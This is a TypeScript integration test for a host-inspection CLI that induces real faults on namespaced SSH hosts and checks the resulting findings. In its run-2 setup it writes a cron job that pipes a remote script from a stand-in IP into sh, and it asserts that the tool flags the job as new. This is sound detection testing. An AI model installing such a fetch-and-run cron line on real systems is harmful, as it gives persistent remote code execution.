/**
 * Host inspection end to end through the real CLI (`patrol inspect host --json`): real Ansible
 * against localhost and three OpenSSH hosts in network namespaces, the real collection module,
 * problems induced for real on the hosts between two runs, and the findings checked by check,
 * target, severity and value.
 *
 * The hosts share one kernel: memory, CPU, load, processes and the kernel log are the machine's
 * (a zombie or an OOM kill shows on every host); mounts, network interfaces, listeners and net.*
 * sysctls are per host. Run 1 is the quiet baseline, run 2 sees the induced problems.
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execa } from 'execa';
import { patrol, REPO } from '../support/cli.js';
import { startSshHosts, type SshHost, type SshHosts } from '../support/ssh-hosts.js';
import { startNtpServer, type NtpServer } from '../fixtures/host/ntp-server.js';

const FIX = join(REPO, 'test', 'fixtures', 'host');
const HELPER = join(FIX, 'proc_helper.py');
const PY = '/usr/bin/python3';

interface Finding {
  check: string;
  target: string;
  host?: string;
  severity: string;
  value?: unknown;
  unit?: string;
  message: string;
  evidence?: { command?: string; raw?: string };
  details?: Record<string, unknown>;
}
interface Result {
  status: string;
  findings: Finding[];
  changes: { new: { check: string; target: string }[]; resolved: { check: string; target: string }[] };
}

let fleet: SshHosts;
let h1: SshHost, h2: SshHost, h3: SshHost;
let home: string;
let work: string;
let inventory: string;
const ntp: Record<'zero' | 'ahead' | 'behind', NtpServer> = {} as never;
const testStart = Date.now();
/** Background processes started inside the hosts (killed in afterAll, by pid). */
const pids: number[] = [];
const cleanups: (() => Promise<unknown>)[] = [];
let createdKubeletDir = false;
/** A loop device on a FUSE file whose reads and writes take 50 ms each: a slow disk (host-3). */
let slowDev = '';
let oomCgroup: string | undefined;
let run1: Result;
let run2: Result;

async function sh(host: SshHost, script: string, opts: { allowFailure?: boolean } = {}) {
  return fleet.hostExec(host, ['sh', '-c', script], { timeoutMs: 60_000, ...opts });
}

/** Starts a process in the background inside a host's namespaces and records its pid. */
async function spawnIn(host: SshHost, argv: string[], extra = ''): Promise<number> {
  const quoted = argv.map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ');
  const r = await sh(host, `${extra}${quoted} >/dev/null 2>&1 </dev/null & echo $!`);
  const pid = Number(r.stdout.trim());
  pids.push(pid);
  return pid;
}

function config(run: 1 | 2): string {
  const ip = fleet.subnet.replace(/\.0\/24$/, '.1');
  const minutes = (Date.now() - testStart) / 60_000;
  // The kernel log is shared with other jobs (and earlier runs of this test): run 1 looks at
  // kernel messages since this test started only; run 2 at everything since a little before it.
  const windowHours = run === 1 ? minutes / 60 : (minutes + 2) / 60;
  const time = (s: NtpServer) => ({ servers: [ip], port: s.port });
  const overrides: unknown[] = [
    // A baseline profile matching these hosts (the "tuned" group); host-3 keeps KubeEye's default.
    { match: { groups: ['tuned'] }, checks: { 'host.kernel.params': { profile: { 'net.core.somaxconn': '>=4096', 'net.ipv4.ip_forward': 0, 'vm.max_map_count': '>=65530', 'fs.inotify.max_user_watches': '>=8192' } } } },
    { match: { hosts: ['host-2'] }, checks: { 'host.kubelet.*': { latencySensitive: true } } },
    { match: { hosts: ['host-3'] }, checks: { 'host.disk.io_utilization': { devices: ['vda', slowDev] } } },
  ];
  if (run === 2) {
    overrides.push(
      { match: { hosts: ['host-1'] }, checks: { 'host.time.offset': time(ntp.ahead), 'host.memory.usage': { warning: 0.5, critical: 95 } } },
      { match: { hosts: ['host-3'] }, checks: { 'host.time.offset': time(ntp.behind) } },
      // host-2 also looks for certificates on the hung mount: that section must time out alone.
      { match: { hosts: ['host-2'] }, checks: { 'host.cert.expiry': { paths: [`${work}/certs/*.pem`, `${work}/hung/*.pem`] } } },
      { match: { hosts: ['localhost'] }, checks: { 'host.time.offset': { servers: [fleet.unusedIp], port: 123 } } },
    );
  }
  const spec = {
    collection: { sectionTimeout: '8s' },
    checks: {
      'host.disk.usage': { mountTimeout: 2 },
      'host.cpu.load_per_core': { average: 1 },
      'host.time.offset': time(ntp.zero),
      'host.cert.expiry': { paths: [`${work}/certs/*.pem`, `${work}/certs/*.der`] },
      'host.kernel.*': { windowHours },
    },
    overrides,
  };
  const file = join(work, `config-${run}.yaml`);
  writeFileSync(file, JSON.stringify({ apiVersion: 'patrol.dev/v1', kind: 'InspectionConfig', metadata: { name: 'host-it' }, spec }, null, 1));
  return file;
}

async function inspect(run: 1 | 2): Promise<Result> {
  const r = await patrol(['inspect', 'host', '-i', inventory, '-c', config(run), '--json', '--fail-on', 'never'], { home, timeoutMs: 120_000 });
  if (r.exitCode !== 0) throw new Error(`patrol inspect host exited ${r.exitCode}: ${String(r.stderr).slice(-3000)}`);
  return JSON.parse(String(r.stdout)) as Result;
}

function find(res: Result, check: string, target: string): Finding {
  const f = res.findings.find((x) => x.check === check && x.target === target);
  if (!f) throw new Error(`no ${check} finding for ${target}; targets: ${res.findings.filter((x) => x.check === check).map((x) => x.target).join(', ')}`);
  return f;
}

const sev = (res: Result, check: string, target: string) => find(res, check, target).severity;

async function makeCert(dir: string, name: string, days: number, der = false): Promise<void> {
  const pem = join(dir, `${name}.pem`);
  await execa('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-keyout', join(dir, `${name}.key`), '-out', pem, '-days', String(days), '-subj', `/CN=${name}.patrol.test`]);
  if (der) {
    await execa('openssl', ['x509', '-in', pem, '-outform', 'DER', '-out', join(dir, `${name}.der`)]);
    rmSync(pem);
  }
}

beforeAll(async () => {
  fleet = await startSshHosts(3);
  [h1, h2, h3] = fleet.hosts as [SshHost, SshHost, SshHost];
  home = mkdtempSync('/tmp/patrol-hostit-home-');
  work = mkdtempSync('/tmp/patrol-hostit-');
  const bridgeIp = fleet.subnet.replace(/\.0\/24$/, '.1');
  ntp.zero = await startNtpServer(bridgeIp, 0);
  ntp.ahead = await startNtpServer(bridgeIp, 0.3);
  ntp.behind = await startNtpServer(bridgeIp, -2);

  inventory = join(work, 'inventory.ini');
  writeFileSync(inventory, fleet.inventoryIni().replace('[targets]\n', '[targets]\nlocalhost ansible_connection=local\n').replace('\n[all:vars]', '\n[tuned]\nlocalhost\nhost-1\nhost-2\n\n[all:vars]'));

  // Certificates: every host sees the shared directory with one valid certificate; host-1 gets a
  // directory of its own (tmpfs in its mount namespace) where certificates near expiry appear in run 2.
  mkdirSync(join(work, 'certs'));
  await makeCert(join(work, 'certs'), 'valid', 400);
  await sh(h1, `mount -t tmpfs -o size=1m patrol-certs ${work}/certs`);
  mkdirSync(join(work, 'h1-certs'));
  await makeCert(join(work, 'h1-certs'), 'valid', 400);
  await sh(h1, `cp ${work}/h1-certs/valid.pem ${work}/certs/`);

  // host-1: a small tmpfs and an inode-limited tmpfs, lightly used in run 1.
  mkdirSync(join(work, 'small'));
  mkdirSync(join(work, 'inodes'));
  await sh(h1, `mount -t tmpfs -o size=1m patrol-small ${work}/small && mount -t tmpfs -o size=4m,nr_inodes=40 patrol-inodes ${work}/inodes && dd if=/dev/zero of=${work}/small/base bs=64k count=1 status=none && touch ${work}/inodes/a`);
  // host-1: its own /etc/cron.d (baseline in run 1, a job added for run 2).
  await sh(h1, 'mount -t tmpfs -o size=1m patrol-crond /etc/cron.d');
  // host-3: no cron jobs at all (the quiet case of host.cron.daemon).
  await sh(h3, 'for d in /etc/cron.d /etc/cron.daily /etc/cron.weekly /etc/cron.hourly /etc/cron.monthly; do [ -d $d ] && mount -t tmpfs -o size=1m patrol-cron $d; done; true');

  // host-2: chronyd (not allowed to touch the clock: -x) synchronised to the unskewed test server,
  // with its control socket in a /run/chrony of host-2's own.
  mkdirSync(join(work, 'chrony'), { mode: 0o700 });
  writeFileSync(join(work, 'chrony', 'chrony.conf'), `server ${bridgeIp} port ${ntp.zero.port} iburst minpoll -4 maxpoll -4\npidfile /run/chrony/chronyd.pid\ndriftfile ${work}/chrony/drift\n`);
  await sh(h2, `mkdir -p /run/chrony && mount -t tmpfs -o mode=0700,size=1m patrol-chrony /run/chrony && chronyd -x -u root -f ${work}/chrony/chrony.conf`);
  pids.push(Number((await sh(h2, 'sleep 0.3; cat /run/chrony/chronyd.pid')).stdout.trim()));

  // Kubelet configs (the kubelet's default path, a tmpfs per host): host-3 a consistent static
  // policy from run 1 on; host-1 and host-2 get theirs in run 2.
  if (!existsSync('/var/lib/kubelet')) {
    mkdirSync('/var/lib/kubelet');
    createdKubeletDir = true;
  }
  for (const h of [h1, h2, h3]) await sh(h, 'mount -t tmpfs -o size=1m patrol-kubelet /var/lib/kubelet');
  await sh(h3, `printf '%s\\n' 'apiVersion: kubelet.config.k8s.io/v1beta1' 'kind: KubeletConfiguration' 'cpuManagerPolicy: static' 'reservedSystemCPUs: "0"' 'topologyManagerPolicy: single-numa-node' > /var/lib/kubelet/config.yaml`);

  // host-3: a slow disk, idle in run 1 (its IO checks are quiet), busy in run 2.
  mkdirSync(join(work, 'slowfs'));
  await execa('truncate', ['-s', '16M', join(work, 'slow.img')]);
  const slowFs = await spawnIn(h3, [PY, join(FIX, 'fuse_slow.py'), join(work, 'slowfs'), join(work, 'slow.img'), '0.05']);
  await sh(h3, `for i in $(seq 50); do [ -f ${work}/slowfs/disk ] && exit 0; sleep 0.1; done; exit 1`);
  slowDev = (await sh(h3, `losetup -f --show ${work}/slowfs/disk`)).stdout.trim().replace('/dev/', '');
  cleanups.push(async () => {
    await execa('losetup', ['-d', `/dev/${slowDev}`], { reject: false });
    await fleet.hostExec(h3, ['kill', '-TERM', String(slowFs)], { allowFailure: true });
  });

  run1 = await inspect(1);
}, 120_000);

afterAll(async () => {
  for (const pid of pids) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      /* already gone */
    }
  }
  for (const c of cleanups.reverse()) await c().catch(() => undefined);
  await Promise.all(Object.values(ntp).map((s) => s?.close()));
  await fleet?.stop();
  if (oomCgroup) await execa('rmdir', [oomCgroup], { reject: false });
  if (createdKubeletDir) await execa('rmdir', ['/var/lib/kubelet'], { reject: false });
  if (work) rmSync(work, { recursive: true, force: true });
  if (home) rmSync(home, { recursive: true, force: true });
});

describe('run 1: quiet baseline', () => {
  test('every host check reports on every host; nothing is silently skipped', () => {
    expect(run1.status).toBe('succeeded');
    for (const host of ['localhost', 'host-1', 'host-2', 'host-3']) {
      const checks = new Set(run1.findings.filter((f) => f.host === host).map((f) => f.check));
      expect([host, checks.size]).toEqual([host, 33]);
    }
  });

  test('no problems where none were induced', () => {
    for (const host of ['host-1', 'host-2']) {
      expect(sev(run1, 'host.disk.usage', `${host}:/`)).toBe('ok');
      expect(sev(run1, 'host.disk.inodes', `${host}:/`)).toBe('ok');
      expect(sev(run1, 'host.net.interface_down', `${host}:eth0`)).toBe('ok');
      expect(sev(run1, 'host.net.errors', `${host}:eth0`)).toBe('ok');
      expect(sev(run1, 'host.net.drops', `${host}:eth0`)).toBe('ok');
      expect(sev(run1, 'host.net.conntrack', host)).toBe('ok');
      expect(sev(run1, 'host.reboot.required', host)).toBe('ok');
      expect(sev(run1, 'host.swap.usage', host)).toBe('ok');
      expect(sev(run1, 'host.memory.usage', host)).toBe('ok');
      expect(sev(run1, 'host.numa.topology', host)).toBe('ok');
      for (const k of ['net.core.somaxconn', 'net.ipv4.ip_forward', 'vm.max_map_count']) expect(sev(run1, 'host.kernel.params', `${host}:${k}`)).toBe('ok');
      expect(find(run1, 'host.kubelet.cpu_manager', host)).toMatchObject({ severity: 'ok', message: expect.stringContaining('not a Kubernetes node') });
    }
    expect(find(run1, 'host.disk.usage', `host-1:${work}/small`)).toMatchObject({ severity: 'ok', value: expect.any(Number) });
    expect(sev(run1, 'host.disk.inodes', `host-1:${work}/inodes`)).toBe('ok');
    expect(find(run1, 'host.cert.expiry', `host-1:${work}/certs/valid.pem`)).toMatchObject({ severity: 'ok', unit: 'days' });
    expect(sev(run1, 'host.cert.expiry', `host-2:${work}/certs/valid.pem`)).toBe('ok');
    for (const host of ['host-1', 'host-2', 'host-3']) {
      for (const c of ['host.kernel.oom_kills', 'host.kernel.hung_tasks', 'host.kernel.fs_errors']) expect([c, sev(run1, c, host)]).toEqual([c, 'ok']);
      expect(find(run1, 'host.time.offset', host)).toMatchObject({ severity: 'ok', unit: 's' });
      expect(Math.abs(find(run1, 'host.time.offset', host).value as number)).toBeLessThan(0.05);
    }
    expect(find(run1, 'host.cron.jobs', 'host-1').message).toContain('first run');
    expect(find(run1, 'host.net.listening_ports', 'host-2').message).toMatch(new RegExp(`tcp ${h2.ip.replace(/\./g, '\\.')}:22 \\(sshd\\).*first run`));
    expect(sev(run1, 'host.cron.daemon', 'host-3')).toBe('ok');
  });

  test('CPU and load are judged on the machine\'s real, shared numbers', () => {
    for (const host of ['localhost', 'host-1']) {
      const cpu = find(run1, 'host.cpu.usage', host);
      const v = cpu.value as number;
      expect(cpu.severity).toBe(v >= 95 ? 'critical' : v >= 90 ? 'warning' : 'ok');
      const load = find(run1, 'host.cpu.load_per_core', host);
      const l = load.value as number;
      expect(load.severity).toBe(l >= 4 ? 'critical' : l >= 2 ? 'warning' : 'ok');
      for (const f of run1.findings.filter((x) => x.check === 'host.disk.io_utilization' && x.host === host)) expect(f.severity).toBe((f.value as number) >= 99 ? 'critical' : (f.value as number) >= 90 ? 'warning' : 'ok');
    }
  });

  test('an idle disk: IO utilization, saturation and await are quiet', () => {
    expect(find(run1, 'host.disk.io_utilization', `host-3:${slowDev}`)).toMatchObject({ severity: 'ok', value: 0 });
    expect(find(run1, 'host.disk.io_saturation', `host-3:${slowDev}`)).toMatchObject({ severity: 'ok', value: 0 });
    expect(find(run1, 'host.disk.io_await', `host-3:${slowDev}`)).toMatchObject({ severity: 'ok', message: expect.stringContaining('no IO completed') });
    // Loop devices are skipped unless listed.
    expect(run1.findings.some((f) => f.check === 'host.disk.io_utilization' && f.target === `host-2:${slowDev}`)).toBe(false);
  });

  test('the kubelet checks on a consistent Kubernetes node (host-3) stay quiet', () => {
    expect(find(run1, 'host.kubelet.cpu_manager', 'host-3')).toMatchObject({ severity: 'ok', value: 'static' });
    expect(find(run1, 'host.kubelet.topology_manager', 'host-3')).toMatchObject({ severity: 'ok', value: 'single-numa-node' });
  });

  test('the time is synchronised where chronyd runs (host-2) and not elsewhere', () => {
    expect(find(run1, 'host.time.sync', 'host-2')).toMatchObject({ severity: 'ok', message: expect.stringContaining('chronyd: leap status Normal') });
    // (host-2's chronyd shows in every host's process list: the hosts share one PID namespace.)
    for (const host of ['localhost', 'host-1', 'host-3']) expect(find(run1, 'host.time.sync', host)).toMatchObject({ severity: 'warning', message: expect.stringContaining('clock not synchronised: kernel NTP state TIME_ERROR, STA_UNSYNC') });
  });

  test('KubeEye\'s default sysctl profile applies outside the overriding group (host-3)', () => {
    expect(find(run1, 'host.kernel.params', 'host-3:net.ipv4.ip_forward')).toMatchObject({ severity: 'warning', value: '0', message: 'net.ipv4.ip_forward = 0, expected 1' });
    expect(find(run1, 'host.kernel.params', 'host-3:net.core.somaxconn')).toMatchObject({ severity: 'warning', value: '4096' });
    expect(run1.findings.filter((f) => f.check === 'host.kernel.params' && f.host === 'host-3')).toHaveLength(9);
  });

  test('without systemd as PID 1 the systemd checks report error, never ok', () => {
    for (const host of ['localhost', 'host-1']) {
      for (const c of ['host.systemd.failed_units', 'host.systemd.boot_services']) expect(find(run1, c, host)).toMatchObject({ severity: 'error', message: expect.stringContaining('systemd is not running on this host') });
    }
  });

  test('cron jobs without a cron daemon (host-2) fire; a host without jobs (host-3) is quiet', () => {
    expect(find(run1, 'host.cron.daemon', 'host-2')).toMatchObject({ severity: 'warning', message: expect.stringContaining('no cron daemon is running') });
  });
});

describe('run 2: induced problems', () => {
  beforeAll(async () => {
    const hung = join(work, 'hung');
    mkdirSync(hung);
    // host-2: a FUSE mount whose server answers nothing after INIT (a dead NFS server, in effect),
    // and 16 processes stuck on it in D state: they raise the (machine's) load average.
    const fuse = await spawnIn(h2, [PY, join(FIX, 'fuse_hang.py'), hung]);
    await sh(h2, `for i in $(seq 50); do grep -q ' ${hung} ' /proc/self/mounts && exit 0; sleep 0.1; done; exit 1`);
    cleanups.push(() => fleet.hostExec(h2, ['kill', '-TERM', String(fuse)], { allowFailure: true }));
    for (let i = 0; i < 16; i++) await spawnIn(h2, [PY, HELPER, 'dstate', hung]);

    // host-1: filesystems filled, a cron job added, a kernel parameter off the profile, a dead
    // link, a flood of frames nothing handles, reboot-required, certificates near expiry, a
    // zombie and a process near its open-files limit.
    await sh(h1, `dd if=/dev/zero of=${work}/small/fill bs=64k count=14 status=none; for i in $(seq 36); do touch ${work}/inodes/f$i; done`);
    await sh(h1, `printf '%s\\n' 'MAILTO=""' '*/5 * * * * root /usr/bin/curl -s http://198.51.100.7/p.sh | sh' > /etc/cron.d/patrol-test`);
    await sh(h1, 'sysctl -q -w net.core.somaxconn=1024');
    await sh(h1, 'ip link add pt-a type veth peer name pt-b && ip link set pt-a up && ip link add pt-c type veth peer name pt-d && ip link set pt-c up && ip link set pt-d up');
    await fleet.hostExec(h1, [PY, HELPER, 'frames', 'pt-c', '300']);
    await sh(h1, 'mount -t tmpfs -o size=1m patrol-run /run && mkdir -p /run/sshd && touch /run/reboot-required && printf "linux-image-6.1.0-99-amd64\\nlibc6\\n" > /run/reboot-required.pkgs');
    await makeCert(join(work, 'h1-certs'), 'soon', 20);
    await makeCert(join(work, 'h1-certs'), 'urgent', 3, true);
    await sh(h1, `cp ${work}/h1-certs/soon.pem ${work}/h1-certs/urgent.der ${work}/certs/`);
    await spawnIn(h1, [PY, HELPER, 'zombie']);
    await spawnIn(h1, [PY, HELPER, 'fdhog', '61', '64']);
    await sh(h1, `printf '%s\\n' 'kind: KubeletConfiguration' 'cpuManagerPolicy: static' > /var/lib/kubelet/config.yaml`);

    // host-2: a new listener, kubelet settings that contradict each other on a latency-sensitive pool.
    await spawnIn(h2, [PY, HELPER, 'listen', h2.ip, '8089']);
    await sh(h2, `printf '%s\\n' 'kind: KubeletConfiguration' 'cpuManagerPolicy: none' 'topologyManagerPolicy: single-numa-node' > /var/lib/kubelet/config.yaml`);

    // host-3: 24 writers queueing direct IO on the slow disk.
    for (let i = 0; i < 24; i++) await spawnIn(h3, ['dd', 'if=/dev/zero', `of=/dev/${slowDev}`, 'bs=4k', 'count=200', `seek=${i * 200}`, 'oflag=direct', 'status=none']);

    // host-3: interface errors (VXLAN packets that fail ECN decapsulation), and a real ext4 error:
    // a directory block corrupted under a loop-mounted filesystem, remounted read-only by the kernel.
    await sh(h3, 'ip link add vx-pt type vxlan id 42 dstport 4789 local 127.0.0.1 dev lo && ip link set vx-pt up');
    await fleet.hostExec(h3, [PY, HELPER, 'vxlan-ecn', '4789', '300']);
    const img = join(work, 'ext4.img');
    await execa('truncate', ['-s', '8M', img]);
    await execa('mkfs.ext4', ['-q', '-F', '-b', '1024', img]);
    mkdirSync(join(work, 'ext4'));
    await sh(h3, `mount -o loop,errors=remount-ro ${img} ${work}/ext4 && mkdir ${work}/ext4/d && touch ${work}/ext4/d/f && umount ${work}/ext4`);
    const block = (await execa('debugfs', ['-R', 'bmap d 0', img])).stdout.trim();
    await execa('dd', ['if=/dev/urandom', `of=${img}`, 'bs=1024', `seek=${block}`, 'count=1', 'conv=notrunc', 'status=none']);
    await sh(h3, `mount -o loop,errors=remount-ro ${img} ${work}/ext4 && ls ${work}/ext4/d`, { allowFailure: true });

    // The kernel log (shared): a real OOM kill in a memory cgroup of this test, and a hung-task
    // report written to /dev/kmsg.
    const memcg = readFileSync('/proc/self/cgroup', 'utf8').split('\n').find((l) => l.split(':')[1] === 'memory')?.split(':')[2];
    oomCgroup = join('/sys/fs/cgroup/memory', memcg ?? '/', `patrol-hostit-${process.pid}`);
    mkdirSync(oomCgroup);
    writeFileSync(join(oomCgroup, 'memory.limit_in_bytes'), String(32 * 1024 * 1024));
    const oom = await execa(PY, [HELPER, 'oom', oomCgroup], { reject: false });
    expect(oom.signal).toBe('SIGKILL');
    writeFileSync('/dev/kmsg', '<3>INFO: task patrol-hung:4242 blocked for more than 120 seconds.\n');

    // Load: wait until the stuck processes have pushed the 1-minute average past 2 per CPU.
    const cpus = Number((await execa('nproc')).stdout.trim());
    const until = Date.now() + 75_000;
    while (Number(readFileSync('/proc/loadavg', 'utf8').split(' ')[0]) / cpus < 2.3 && Date.now() < until) await new Promise((r) => setTimeout(r, 1000));

    // CPU: two niced busy loops fill whatever CPU other processes leave idle during the run.
    const burners = [0, 1].map(() => execa('nice', ['-n', '19', PY, HELPER, 'burn', '60'], { reject: false }));
    cleanups.push(async () => burners.forEach((b) => b.kill('SIGKILL')));
    run2 = await inspect(2);
    if (process.env.PATROL_HOSTIT_DUMP) writeFileSync(process.env.PATROL_HOSTIT_DUMP, JSON.stringify({ run1, run2 }, null, 1));
    burners.forEach((b) => b.kill('SIGKILL'));
  }, 150_000);

  test('a full filesystem and a filesystem out of inodes fire; the other mounts stay quiet', () => {
    expect(find(run2, 'host.disk.usage', `host-1:${work}/small`)).toMatchObject({ severity: 'critical' });
    expect(find(run2, 'host.disk.usage', `host-1:${work}/small`).value as number).toBeGreaterThan(90);
    expect(find(run2, 'host.disk.inodes', `host-1:${work}/inodes`)).toMatchObject({ severity: 'critical', value: 95 });
    expect(sev(run2, 'host.disk.usage', 'host-1:/')).toBe('ok');
    // The run comparison names it as a new problem since run 1.
    expect(run2.changes.new.some((c) => c.check === 'host.disk.usage' && c.target === `host-1:${work}/small`)).toBe(true);
  });

  test('a hung mount is an error for that mount only, and does not hold up the run', () => {
    const f = find(run2, 'host.disk.usage', `host-2:${work}/hung`);
    expect(f.severity).toBe('error');
    expect(f.message).toContain('timed out after 2s (hung mount?)');
    expect(sev(run2, 'host.disk.usage', 'host-2:/')).toBe('ok');
    expect(sev(run2, 'host.cpu.usage', 'host-2')).not.toBe('error');
  });

  test('a section stuck on the hung mount times out alone: its checks error, the others report', () => {
    expect(find(run2, 'host.cert.expiry', 'host-2')).toMatchObject({ severity: 'error', message: 'Certificate files expiring: could not measure: timed out after 8s' });
    for (const c of ['host.cron.jobs', 'host.kernel.params', 'host.time.offset', 'host.reboot.required']) expect([c, run2.findings.filter((f) => f.check === c && f.host === 'host-2').every((f) => f.severity !== 'error')]).toEqual([c, true]);
  });

  test('processes stuck in D state fire, and raise the load per CPU', () => {
    const d = find(run2, 'host.proc.dstate', 'host-2');
    expect(d.severity).toBe('critical');
    expect(d.value as number).toBeGreaterThanOrEqual(16);
    expect(d.message).toContain('patrol-dstate');
    expect(d.message).toContain('request_wait_answer');
    const load = find(run2, 'host.cpu.load_per_core', 'host-2');
    expect(load.value as number).toBeGreaterThanOrEqual(2);
    expect(['warning', 'critical']).toContain(load.severity);
  });

  test('a slow, busy disk: utilization, queue and await fire', () => {
    const util = find(run2, 'host.disk.io_utilization', `host-3:${slowDev}`);
    expect(util.severity).toBe('critical');
    expect(util.value as number).toBeGreaterThanOrEqual(99);
    const queue = find(run2, 'host.disk.io_saturation', `host-3:${slowDev}`);
    expect(queue.value as number).toBeGreaterThanOrEqual(10);
    expect(['warning', 'critical']).toContain(queue.severity);
    const wait = find(run2, 'host.disk.io_await', `host-3:${slowDev}`);
    expect(wait.value as number).toBeGreaterThan(100);
    expect(['warning', 'critical']).toContain(wait.severity);
  });

  test('CPU usage fires while busy loops fill the idle time', () => {
    const cpu = find(run2, 'host.cpu.usage', 'host-1');
    expect(cpu.value as number).toBeGreaterThanOrEqual(90);
    expect(['warning', 'critical']).toContain(cpu.severity);
  });

  test('memory usage fires on host-1 with a threshold below its real usage (override), quiet elsewhere', () => {
    const m = find(run2, 'host.memory.usage', 'host-1');
    expect(m.severity).toBe('warning');
    expect(m.value as number).toBeGreaterThan(0.5);
    expect(sev(run2, 'host.memory.usage', 'host-2')).toBe('ok');
  });

  test('a cron job added since the last run is flagged with its line; unchanged hosts stay quiet', () => {
    const c = find(run2, 'host.cron.jobs', 'host-1');
    expect(c.severity).toBe('warning');
    expect(c.message).toContain('added: /etc/cron.d/patrol-test: */5 * * * * root /usr/bin/curl -s http://198.51.100.7/p.sh | sh');
    expect(c.evidence?.raw).toBe('/etc/cron.d/patrol-test:2: */5 * * * * root /usr/bin/curl -s http://198.51.100.7/p.sh | sh');
    expect(find(run2, 'host.cron.jobs', 'host-2')).toMatchObject({ severity: 'ok', message: expect.stringContaining('unchanged since the last run') });
    expect(sev(run2, 'host.cron.daemon', 'host-1')).toBe('warning');
  });

  test('a kernel parameter changed off the profile fires on that host only', () => {
    expect(find(run2, 'host.kernel.params', 'host-1:net.core.somaxconn')).toMatchObject({ severity: 'warning', value: '1024', message: 'net.core.somaxconn = 1024, expected >=4096' });
    expect(sev(run2, 'host.kernel.params', 'host-2:net.core.somaxconn')).toBe('ok');
  });

  test('an interface up without a link fires; drops and errors fire on the interfaces that had them', () => {
    expect(find(run2, 'host.net.interface_down', 'host-1:pt-a')).toMatchObject({ severity: 'warning', value: 'lowerlayerdown' });
    expect(sev(run2, 'host.net.interface_down', 'host-1:pt-c')).toBe('ok');
    const drops = find(run2, 'host.net.drops', 'host-1:pt-d');
    expect(drops.severity).toBe('critical');
    expect(drops.value as number).toBeGreaterThan(90);
    expect(sev(run2, 'host.net.errors', 'host-1:pt-d')).toBe('ok');
    const errs = find(run2, 'host.net.errors', 'host-3:vx-pt');
    expect(errs).toMatchObject({ severity: 'critical', value: 100 });
    expect(errs.message).toContain('rx 300');
    expect(sev(run2, 'host.net.errors', 'host-3:eth0')).toBe('ok');
  });

  test('a new listening port is flagged with its process', () => {
    const l = find(run2, 'host.net.listening_ports', 'host-2');
    expect(l.severity).toBe('warning');
    expect(l.message).toContain(`new since the last run: tcp ${h2.ip}:8089 (patrol-listener)`);
    expect(find(run2, 'host.net.listening_ports', 'host-1')).toMatchObject({ severity: 'ok', message: expect.stringContaining('unchanged') });
  });

  test('reboot required (the real flag file) fires with the packages', () => {
    expect(find(run2, 'host.reboot.required', 'host-1')).toMatchObject({ severity: 'warning', value: true, message: expect.stringContaining('linux-image-6.1.0-99-amd64') });
    expect(sev(run2, 'host.reboot.required', 'host-2')).toBe('ok');
  });

  test('certificates: < 30 days warning, < 7 days critical (DER), valid ones quiet', () => {
    const soon = find(run2, 'host.cert.expiry', `host-1:${work}/certs/soon.pem`);
    expect(soon.severity).toBe('warning');
    expect(soon.value as number).toBeGreaterThan(19);
    expect(soon.value as number).toBeLessThanOrEqual(20);
    const urgent = find(run2, 'host.cert.expiry', `host-1:${work}/certs/urgent.der`);
    expect(urgent.severity).toBe('critical');
    expect(urgent.message).toContain('CN=urgent.patrol.test');
    expect(urgent.details).toMatchObject({ format: 'DER' });
    expect(sev(run2, 'host.cert.expiry', `host-1:${work}/certs/valid.pem`)).toBe('ok');
    expect(run2.findings.some((f) => f.target === `host-2:${work}/certs/urgent.der`)).toBe(false);
  });

  test('clock offsets measured with SNTP against skewed servers fire; an unreachable server is an error', () => {
    const ahead = find(run2, 'host.time.offset', 'host-1');
    expect(ahead.severity).toBe('warning');
    expect(ahead.value as number).toBeGreaterThan(0.25);
    expect(ahead.value as number).toBeLessThan(0.35);
    expect(ahead.message).toContain('behind NTP time');
    const behind = find(run2, 'host.time.offset', 'host-3');
    expect(behind.severity).toBe('critical');
    expect(behind.value as number).toBeLessThan(-1.9);
    expect(sev(run2, 'host.time.offset', 'host-2')).toBe('ok');
    expect(find(run2, 'host.time.offset', 'localhost')).toMatchObject({ severity: 'error', message: expect.stringContaining('no configured NTP server answered') });
  });

  test('kernel log: the OOM kill, the hung task and the ext4 error fire', () => {
    const oom = find(run2, 'host.kernel.oom_kills', 'host-1');
    expect(['warning', 'critical']).toContain(oom.severity);
    expect(oom.message).toContain('patrol-oomtest');
    expect(oom.evidence?.raw).toContain('Memory cgroup out of memory: Killed process');
    expect(find(run2, 'host.kernel.hung_tasks', 'host-1')).toMatchObject({ severity: 'warning', message: expect.stringContaining('patrol-hung:4242 blocked for more than 120 s') });
    const fsErr = find(run2, 'host.kernel.fs_errors', 'host-3');
    expect(fsErr.severity).toBe('critical');
    expect(fsErr.evidence?.raw).toMatch(/EXT4-fs error \(device loop\d+\)/);
    expect(fsErr.evidence?.raw).toContain('Remounting filesystem read-only');
  });

  test('a zombie and a process near its open-files limit fire', () => {
    const z = find(run2, 'host.proc.zombies', 'host-1');
    expect(['warning', 'critical']).toContain(z.severity);
    expect(z.message).toContain('patrol-zombie');
    expect(z.message).toContain('patrol-zparent');
    expect(find(run2, 'host.fd.usage', 'host-1:fd:patrol-fdhog')).toMatchObject({ severity: 'critical', value: expect.any(Number) });
    expect(find(run2, 'host.fd.usage', 'host-1:fd:patrol-fdhog').value as number).toBeGreaterThanOrEqual(90);
    expect(sev(run2, 'host.fd.usage', 'host-1')).toBe('ok');
  });

  test('kubelet: static without a reservation is critical; a latency-sensitive pool with policy none and a topology policy without CPU hints warn', () => {
    expect(find(run2, 'host.kubelet.cpu_manager', 'host-1')).toMatchObject({ severity: 'critical', message: expect.stringContaining('without a CPU reservation') });
    expect(find(run2, 'host.kubelet.cpu_manager', 'host-2')).toMatchObject({ severity: 'warning', message: expect.stringContaining('latency-sensitive pool but cpuManagerPolicy none') });
    expect(find(run2, 'host.kubelet.topology_manager', 'host-2')).toMatchObject({ severity: 'warning', message: expect.stringContaining('single-numa-node with cpuManagerPolicy none') });
    expect(sev(run2, 'host.kubelet.cpu_manager', 'host-3')).toBe('ok');
  });
});
